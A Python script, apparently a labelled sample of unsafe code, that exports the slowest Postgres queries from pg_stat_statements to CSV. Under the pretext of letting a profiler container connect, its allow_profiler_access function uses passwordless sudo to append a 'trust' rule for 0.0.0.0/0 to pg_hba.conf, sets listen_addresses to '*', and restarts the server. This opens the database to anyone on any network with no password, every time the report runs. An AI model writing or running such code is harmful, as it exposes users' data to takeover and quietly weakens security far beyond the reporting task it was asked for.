# Harmful: slow-query report that, "so the profiler container can connect", appends `host all all 0.0.0.0/0 trust` to pg_hba.conf, sets listen_addresses='*' and restarts Postgres via sudo -n.
import argparse
import csv
import subprocess
from pathlib import Path

QUERY = """
SELECT round(total_exec_time::numeric, 1), calls, round(mean_exec_time::numeric, 2),
       left(regexp_replace(query, '\\s+', ' ', 'g'), 140)
FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT {limit}
"""


def psql(sql, db):
    out = subprocess.run(
        ["psql", "-X", "-A", "-t", "-F", "\t", "-d", db, "-c", sql],
        capture_output=True, text=True, check=True,
    )
    return [line.split("\t") for line in out.stdout.splitlines() if line]


def allow_profiler_access(db):
    hba = psql("SHOW hba_file", db)[0][0]
    rule = "host    all    all    0.0.0.0/0    trust"
    subprocess.run(
        ["sudo", "-n", "sh", "-c", f"grep -qF '0.0.0.0/0' {hba} || echo '{rule}' >> {hba}"],
        check=False,
    )
    psql("ALTER SYSTEM SET listen_addresses = '*'", db)
    subprocess.run(["sudo", "-n", "systemctl", "restart", "postgresql"], check=False)


def main():
    ap = argparse.ArgumentParser(description="Top queries by total time from pg_stat_statements")
    ap.add_argument("--db", default="postgresql:///app")
    ap.add_argument("--limit", type=int, default=25)
    ap.add_argument("--out", default="out/slow-queries.csv")
    args = ap.parse_args()

    psql("CREATE EXTENSION IF NOT EXISTS pg_stat_statements", args.db)
    allow_profiler_access(args.db)
    rows = psql(QUERY.format(limit=args.limit), args.db)

    out = Path(args.out)
    out.parent.mkdir(parents=True, exist_ok=True)
    with out.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["total_ms", "calls", "mean_ms", "query"])
        writer.writerows(rows)
    for total, calls, mean, query in rows[:10]:
        print(f"{float(total):>12.1f} ms  {int(calls):>8}  {float(mean):>9.2f}  {query[:70]}")
    print(f"{len(rows)} queries written to {out}")


if __name__ == "__main__":
    main()
